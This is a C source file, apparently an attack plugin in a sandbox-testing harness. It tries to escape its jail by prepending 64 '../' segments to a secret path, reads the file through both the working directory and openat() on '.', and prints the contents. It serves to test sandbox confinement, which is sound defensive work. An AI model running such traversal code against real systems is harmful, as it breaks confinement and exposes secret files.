/*
 * fs_read_dotdot — climbs out of its working directory with "../" sequences and
 * then descends to the secret, relative to the working directory and relative to
 * a directory descriptor. A sandbox that only filters absolute paths, or that
 * joins paths onto a jail without resolving "..", lets this through.
 */
#include "attack.h"

static sbx_status attack(const atk_input *in, atk_out *out)
{
    char secret[4096];
    char path[8192];
    size_t pos = 0;
    int found = 0;
    if (!atk_param(in, "secret_path", secret, sizeof secret)) {
        return SBX_ERR_INVALID_ARGUMENT;
    }
    /* More ".." than any real depth: excess ones stop at the root. */
    for (int i = 0; i < 64; i++) {
        memcpy(path + pos, "../", 3);
        pos += 3;
    }
    snprintf(path + pos, sizeof path - pos, "%s", secret + (secret[0] == '/' ? 1 : 0));
    found |= atk_cat(out, "secret via cwd/..", path);

    /* The same through openat() on a descriptor of ".". */
    int dir = open(".", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (dir < 0) {
        atk_failed(out, "open .", errno);
    } else {
        int fd = openat(dir, path, O_RDONLY | O_CLOEXEC);
        if (fd < 0) {
            atk_failed(out, "openat(., ../..)", errno);
        } else {
            char buf[4096];
            ssize_t got = read(fd, buf, sizeof buf);
            if (got > 0) {
                atk_put(out, "secret via openat: ", 19);
                atk_put(out, buf, (size_t)got);
                atk_put(out, "\n", 1);
                found = 1;
            }
            close(fd);
        }
        close(dir);
    }
    return found ? SBX_OK : SBX_ERR_INTERNAL;
}

ATK_INVOKE_PLUGIN(attack)
